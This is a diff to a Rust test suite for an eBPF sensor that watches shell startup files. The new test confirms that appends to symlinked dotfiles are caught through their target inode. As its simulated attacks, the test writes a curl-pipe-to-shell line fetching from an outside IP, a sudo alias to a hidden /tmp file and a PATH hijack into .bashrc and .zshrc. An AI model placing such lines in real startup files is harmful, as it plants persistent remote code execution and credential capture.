@@ -630,6 +630,98 @@ fn any_shell_startup_file_is_watched_by_its_name() {
     );
 }
 
+/// A home's startup file that is a symlink, as dotfile managers make
+/// `~/.bashrc -> dotfiles/bashrc`: the kernel resolves the target, whose
+/// name is no startup file's, so the daemon has the target watched by
+/// inode. It looks for such links in the homes of /etc/passwd at the start
+/// and on each refresh.
+#[test]
+fn a_startup_file_symlinked_elsewhere_is_watched_through_its_target() {
+    let user = sensor_tests::audit::TestUser::create();
+    let home = home_of(&user.name);
+    let dotfiles = home.join("dotfiles");
+    std::fs::create_dir_all(&dotfiles).expect("mkdir");
+    std::fs::write(dotfiles.join("bashrc"), b"# managed\n").expect("write");
+    let _ = std::fs::remove_file(home.join(".bashrc"));
+    std::os::unix::fs::symlink("dotfiles/bashrc", home.join(".bashrc")).expect("symlink");
+    // Named as no startup file: not looked at.
+    std::fs::write(dotfiles.join("notes"), b"").expect("write");
+    std::os::unix::fs::symlink("dotfiles/notes", home.join(".bashrc.bak")).expect("symlink");
+    let tree = Tree::new();
+    let sensor = Sensor::start(&format!(
+        "{}[ebpf]\ncounters_interval_ms = 200\n",
+        tree.config()
+    ));
+    let text = |p: &Path| p.to_str().expect("utf-8").to_owned();
+    let target = |name: &str| text(&std::fs::canonicalize(dotfiles.join(name)).expect("target"));
+
+    let through_link = sh("echo 'curl -s http://203.0.113.9/x | sh' >> .bashrc", &home);
+    let direct = sh("echo 'alias sudo=/tmp/.s' >> dotfiles/bashrc", &home);
+    // A link made after the start is reported by its name; its target is
+    // watched from the next refresh.
+    std::fs::write(dotfiles.join("zshrc"), b"").expect("write");
+    let soft = run("ln", &["-s", "dotfiles/zshrc", ".zshrc"], &home);
+    wait_refreshed(&sensor, &home.join(".zshrc"));
+    let later = sh("echo 'export PATH=/tmp/.b:$PATH' >> .zshrc", &home);
+    let quiet = sh("echo x >> .bashrc.bak", &home);
+
+    let (path, watched, by) = (
+        "file.path",
+        "sensor.file_write.watched",
+        "sensor.file_write.matched_by",
+    );
+    let by_target = |name: &str, link: &str| {
+        vec![
+            (path, target(name)),
+            (watched, text(&home.join(link))),
+            (by, "inode".to_owned()),
+        ]
+    };
+    expect_writes(
+        &sensor,
+        [
+            (
+                "an append to .bashrc, a symlink",
+                "open_write",
+                through_link,
+                by_target("bashrc", ".bashrc"),
+            ),
+            (
+                "an append to the link's target by its own name",
+                "open_write",
+                direct,
+                by_target("bashrc", ".bashrc"),
+            ),
+            (
+                ".zshrc symlinked into place",
+                "symlink",
+                soft,
+                vec![(path, text(&home.join(".zshrc")))],
+            ),
+            (
+                "an append to .zshrc, linked after the start",
+                "open_write",
+                later,
+                by_target("zshrc", ".zshrc"),
+            ),
+        ],
+    );
+    assert_quiet(&sensor, quiet, "a link named as no startup file");
+}
+
+/// `user`'s home directory, as /etc/passwd has it.
+fn home_of(user: &str) -> PathBuf {
+    let passwd = std::fs::read_to_string("/etc/passwd").expect("read /etc/passwd");
+    let home = passwd
+        .lines()
+        .find_map(|l| {
+            let fields: Vec<&str> = l.split(':').collect();
+            (fields.first() == Some(&user)).then(|| fields.get(5).copied())?
+        })
+        .unwrap_or_else(|| panic!("{user} is not in /etc/passwd"));
+    PathBuf::from(home)
+}
+
 /// With the name rules off, a `.ssh` directory, a `systemd/user` directory
 /// and a shell's startup file that no configured path covers are not
 /// watched: each switch turns its rule off in the kernel.
@@ -686,6 +778,24 @@ fn expect_writes<'a>(
         for (field, want) in fields {
             assert_eq!(at(&ev, field).as_str(), Some(want.as_str()), "{what}: {ev}");
         }
+    }
+}
+
+/// Waits until the daemon logs that it brought the kernel's maps up to
+/// date for `path` (a refresh, on each counters tick).
+fn wait_refreshed(sensor: &Sensor, path: &Path) {
+    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(5);
+    let named = |l: &String| {
+        l.contains("watched paths with a new inode")
+            && l.split([' ', ';']).any(|w| Path::new(w) == path)
+    };
+    while !sensor.stderr().iter().any(named) {
+        assert!(
+            std::time::Instant::now() < deadline,
+            "no refresh of the kernel maps named {}",
+            path.display()
+        );
+        std::thread::sleep(std::time::Duration::from_millis(50));
     }
 }
 
@@ -922,23 +1032,8 @@ fn a_watched_file_replaced_or_created_later_stays_watched() {
 
     // Once the daemon has the new inodes, a second name for either file is
     // that file.
-    let refreshed = |path: &Path| {
-        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(5);
-        let named = |l: &String| {
-            l.contains("watched paths with a new inode")
-                && l.split([' ', ';']).any(|w| Path::new(w) == path)
-        };
-        while !sensor.stderr().iter().any(named) {
-            assert!(
-                std::time::Instant::now() < deadline,
-                "no refresh of the kernel maps named {}",
-                path.display()
-            );
-            std::thread::sleep(std::time::Duration::from_millis(50));
-        }
-    };
-    refreshed(&passwd);
-    refreshed(&preload);
+    wait_refreshed(&sensor, &passwd);
+    wait_refreshed(&sensor, &preload);
     std::fs::hard_link(&passwd, tree.path("other/pw-new")).expect("link");
     std::fs::hard_link(&preload, tree.path("other/preload")).expect("link");
     sh(
